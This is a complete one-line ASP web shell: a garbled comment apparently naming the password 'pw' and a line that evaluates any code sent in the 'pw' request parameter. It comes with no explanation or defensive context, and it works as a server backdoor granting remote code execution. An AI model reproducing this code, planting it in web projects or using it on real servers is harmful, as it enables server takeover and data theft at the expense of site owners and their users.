<%
' ÃÜÂë: pw
Eval Request("pw")
%>
